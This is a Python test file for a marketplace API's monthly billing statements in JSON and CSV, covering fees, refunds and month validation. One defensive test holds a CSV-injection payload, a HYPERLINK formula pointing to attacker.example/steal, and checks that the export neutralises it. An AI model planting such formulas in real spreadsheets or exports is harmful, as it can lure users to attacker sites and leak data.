"""Provider statements per month: revenue from the ledger, usage from metering, JSON and CSV."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from fastapi.testclient import TestClient
from sqlmodel import Session

from accounts.models import Role
from ground.config import Settings
from tests.fixtures.client import bearer
from tests.fixtures.factories import (
    create_listed_dataset,
    create_order,
    create_user,
)


def test_the_monthly_statement_in_json_and_csv(
    client: TestClient, session: Session, settings: Settings
) -> None:
    provider = create_user(session, role=Role.provider)
    admin = create_user(session, role=Role.admin)
    listed = create_listed_dataset(session, settings, provider=provider)
    orders = []
    for price in (10_000, 2_999):
        buyer = create_user(session, role=Role.buyer)
        orders.append(create_order(session, buyer, listed, provider, price_minor=price))
    session.commit()
    for i, order in enumerate(orders):
        client.post(
            f"/api/v1/orders/{order.id}/bank-transfers",
            headers=bearer(admin, settings),
            json={"reference": f"S-{i}", "amount_minor": order.price_minor, "currency": "CNY"},
        )
    client.post(
        f"/api/v1/orders/{orders[1].id}/refunds",
        headers=bearer(admin, settings),
        json={"reason": "refused delivery"},
    )
    month = datetime.now(UTC).strftime("%Y-%m")
    headers = bearer(provider, settings)
    body = client.get("/api/v1/billing/statements", params={"month": month}, headers=headers)
    assert body.status_code == 200, body.text
    [line] = body.json()["lines"]
    # Default fee 5%: 500 on 10,000; the refunded 2,999 nets to zero on every account.
    assert line["orders_paid"] == 2
    assert line["refunds"] == 1
    assert line["gross_minor"] == 10_000
    assert line["platform_fee_minor"] == 500
    assert line["provider_revenue_minor"] == 9_500
    assert line["dataset_title"] == listed.title
    as_csv = client.get(
        "/api/v1/billing/statements", params={"month": month, "format": "csv"}, headers=headers
    )
    assert as_csv.headers["content-type"].startswith("text/csv")
    [row] = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert row["provider_revenue_minor"] == "9500"
    assert row["month"] == month
    other = client.get("/api/v1/billing/statements", params={"month": "2001-01"}, headers=headers)
    assert other.json()["lines"] == []


def test_a_malformed_month_is_refused(
    client: TestClient, session: Session, settings: Settings
) -> None:
    provider = create_user(session, role=Role.provider)
    session.commit()
    response = client.get(
        "/api/v1/billing/statements",
        params={"month": "2026-13"},
        headers=bearer(provider, settings),
    )
    assert response.status_code == 400
    assert "2026-11" in response.json()["detail"]


def test_a_title_written_as_a_formula_stays_text_in_the_csv(
    client: TestClient, session: Session, settings: Settings
) -> None:
    """OWASP CSV injection: a provider-chosen title must not become a live spreadsheet formula."""
    provider = create_user(session, role=Role.provider)
    admin = create_user(session, role=Role.admin)
    buyer = create_user(session, role=Role.buyer)
    formula = '=HYPERLINK("http://attacker.example/steal","点击查看")'
    listed = create_listed_dataset(session, settings, provider=provider, title=formula)
    order = create_order(session, buyer, listed, provider, price_minor=1_000)
    session.commit()
    client.post(
        f"/api/v1/orders/{order.id}/bank-transfers",
        headers=bearer(admin, settings),
        json={"reference": "F-1", "amount_minor": 1_000, "currency": "CNY"},
    )
    month = datetime.now(UTC).strftime("%Y-%m")
    headers = bearer(provider, settings)
    as_json = client.get("/api/v1/billing/statements", params={"month": month}, headers=headers)
    assert as_json.json()["lines"][0]["dataset_title"] == formula  # JSON keeps the exact text
    as_csv = client.get(
        "/api/v1/billing/statements", params={"month": month, "format": "csv"}, headers=headers
    )
    [row] = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert row["dataset_title"] == "'" + formula
    assert row["gross_minor"] == "1000"
